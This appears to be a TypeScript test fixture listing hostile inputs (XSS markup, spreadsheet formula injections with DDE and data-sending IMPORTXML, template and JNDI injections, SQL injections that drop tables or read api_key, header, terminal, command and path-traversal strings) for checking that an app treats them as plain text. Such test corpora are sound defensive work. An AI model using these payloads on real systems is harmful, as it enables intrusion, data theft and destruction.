// Texts that strangers send in the hope that something takes them for more than text: markup, scripts, formulas,
// templates, SQL, headers, terminals. What gets its way in a browser calls `ran()` or opens a dialog.

const act = 'ran()'
const opens = 'alert(1)'

/** Tags that run without anybody doing anything, or with what people do anyway. */
const markup = [
  `<script>${act}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${act}</scr</script>ipt>`, `<script\u0020>${opens}</script\u0020>`,
  `<img src=x onerror=${act}>`, `<img src=x onerror="${opens}">`, `<IMG """><SCRIPT>${act}</SCRIPT>">`, `<img src onerror\u0009=\u0009${act}>`, `<img/src/onerror=${act}>`,
  `<svg onload=${act}>`, `<svg/onload=${opens}>`, `<svg><script>${act}</script></svg>`, `<svg><animate onbegin=${act} attributeName=x dur=1s>`, `<svg><set onbegin=${act} attributeName=x>`,
  `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`, `<math><mtext><table><mglyph><style><img src onerror=${act}>`, `<math href="javascript:${act}">x</math>`,
  `<body onload=${act}>`, `<body onpageshow=${act}>`, `<iframe src="javascript:parent.${act}"></iframe>`, `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`, `<iframe onload=${act}>`,
  `<object data="javascript:${act}">`, `<object data="data:text/html,<script>${act}</script>">`, `<embed src="javascript:${act}">`, `<embed src="data:image/svg+xml,<svg onload=${act}>">`,
  `<video><source onerror=${act}>`, `<video src=x onerror=${act}>`, `<audio src=x onerror=${act}>`, `<input autofocus onfocus=${act}>`, `<select autofocus onfocus=${act}>`, `<textarea autofocus onfocus=${act}>`,
  `<keygen autofocus onfocus=${act}>`, `<marquee onstart=${act}>x</marquee>`, `<details open ontoggle=${act}>x</details>`, `<div onmouseover=${act} style="position:fixed;inset:0">x</div>`,
  `<a href="javascript:${act}">win</a>`, `<a href="JaVaScRiPt:${opens}">win</a>`, `<a href="java\tscript:${act}">win</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">win</a>`,
  `<form action="javascript:${act}"><button>win</button></form>`, `<button formaction="javascript:${act}" autofocus>win</button>`, `<isindex action=javascript:${act}>`,
  `<link rel=stylesheet href="javascript:${act}">`, `<link rel=import href=//evil.example>`, `<meta http-equiv=refresh content="0;url=javascript:${act}">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href="//evil.example/">`,
  `<style>@import '//evil.example/x.css'</style>`, `<style>*{background:url(javascript:${act})}</style>`, `<p style="background:url(//evil.example/?c)">x</p>`, `<template><script>${act}</script></template>`, `<xss id=x tabindex=1 onfocus=${act}></xss>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`, `<title></title><script>${act}</script>`, `</textarea><script>${act}</script>`, `</style><script>${act}</script>`, `</script><script>${act}</script>`, `--><script>${act}</script>`, `]]><script>${act}</script>`,
  `<!--<img src="--><img src=x onerror=${act}>">`, `<![CDATA[<script>${act}</script>]]>`, `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${act}</script>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${act}</x:script>`,
  `"><script>${act}</script>`, `'><script>${act}</script>`, `" onmouseover="${act}`, `' autofocus onfocus='${act}`, `" style="x:expression(${act})`, '`;' + act + '//', `';${act}//`, `";${act}//`, `\\';${act}//`, `\${${act}}`, `</title><svg/onload=${act}>`,
  `&lt;script&gt;${act}&lt;/script&gt;`, `&#60;img src=x onerror=${act}&#62;`, `&#x3c;svg onload=${act}&#x3e;`, `%3Cscript%3E${act}%3C/script%3E`, `\\u003cscript\\u003e${act}\\u003c/script\\u003e`, `\\x3cimg src=x onerror=${act}\\x3e`,
  `\uff1cscript\uff1e${act}\uff1c/script\uff1e`, `+ADw-script+AD4-${act}+ADw-/script+AD4-`, `javascript:${act}`, `javascript://%0a${act}`, `https://evil.example/"onmouseover="${act}`, `https://evil.example/?q=<script>${act}</script>`,
  `<img src="https://evil.example/pixel.gif">`, `<a href="https://evil.example" ping="https://evil.example/ping">x</a>`, `[x](javascript:${act})`, `![x](x "onerror=${act}")`, `<${'a'.repeat(60)} onclick=${act}>`,
]

const formulas = [
  "=cmd|' /C calc'!A0", '=1+1', '=HYPERLINK("https://evil.example?x="&A1,"win")', '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")', '=WEBSERVICE("https://evil.example")', '=DDE("cmd";"/C calc";"x")',
  '+cmd|calc!A0', '+1+1', '-2+3', "-cmd|' /C calc'!A0", '@SUM(1+1)*cmd|calc!A0', '@A1', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)', '%0A=1+1', '|calc', ';=1+1', ',=1+1', '",=1+1', 'x\t=1+1', 'x";=1+1;"',
]

const templates = [
  '{{7*7}}', '{{ 7 | times: 7 }}', '{% assign x = 7 %}{{x}}', '{% include "/etc/passwd" %}', '{% render "x" %}', '{% for i in (1..1000000000) %}x{% endfor %}', '{{constructor}}', '{{constructor.constructor("return process")()}}', '{{__proto__}}', '{{ "" | constructor }}',
  '${7*7}', '#{7*7}', '<%= 7*7 %>', '<# 7*7 #>', '*{7*7}', '@(7*7)', '[[7*7]]', '{7*7}', '%{7*7}', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{config}}', '{{self}}', '{{request}}', '{php}echo 7;{/php}', '{{range.constructor("return global")()}}', '$' + '{jndi:ldap://evil.example/x}', '{{#with "s" as |string|}}{{/with}}', '{%', '{{', '{{{', '{% raw %}', '{{ name }}', '{{name}}{{phone}}',
]

const statements = [
  "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE message;--", "'; DELETE FROM queue;--", "'); DROP TABLE message;--", '" OR ""="', "1; DROP TABLE workspace", "' UNION SELECT key FROM api_key--", "' UNION SELECT NULL,NULL,NULL--", "admin'--", "admin'/*", "') OR ('1'='1", "' AND SLEEP(5)--", "'; SELECT pg_sleep(5)--", "1' WAITFOR DELAY '0:0:5'--",
  "'||(SELECT sqlite_version())||'", "' AND randomblob(500000000)--", "'; ATTACH DATABASE '/tmp/x.db' AS x;--", "'; PRAGMA writable_schema=1;--", "'; VACUUM INTO '/tmp/x.db';--", "\\'; DROP TABLE message;--", "%' OR '%'='", "_%", "%", "'", "''", "'''", '`', '\\', "\\'", "$$; DROP TABLE message; $$", "E'\\'' OR 1=1", "'; COPY message TO '/tmp/x';--", "x' AND 1=CAST((SELECT 1) AS int)--", "NULL", "0x27204f5220313d31", "'/**/OR/**/1=1", "' OR 'a' LIKE 'a", "?", "$1", ":1",
]

const lines = [
  'x\r\nX-Injected: 1', 'x\nSet-Cookie: onesixty_session=x', 'x\r\n\r\n<script>ran()</script>', 'x%0d%0aX-Injected: 1', '\r\nHTTP/1.1 200 OK', 'x\u2028X-Injected: 1', 'x\u0085X-Injected: 1', 'data: x\n\nevent: messages\ndata: {}', '\nevent: handset\ndata: {"messages":[]}\n\n', 'x\n{"level":50,"msg":"forged"}',
  '\u001b[2J\u001b[31mred', '\u001b]0;title\u0007', '\u001b]52;c;ZXZpbA==\u0007', '\u009b31m', '\u202egnp.exe', '\u2066x\u2069', '\u200bzero', 'a\u0300\u0301\u0302\u0303\u0304', '\ufeffx', 'x\u0008\u0008y', '\u0007', '../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'file:///etc/passwd', '|id', '; id', '$(id)', '`id`', '&& id', 'x | sh', '%s%s%s%n', '%x%x', 'true', 'null', 'undefined', 'NaN', '__proto__', 'constructor', 'toString', '[object Object]', '{"$ne":null}', '{"__proto__":{"admin":true}}',
]

export const hostileTexts = { markup, formulas, templates, statements, lines } as const
export const allHostileTexts: readonly string[] = Object.values(hostileTexts).flat()
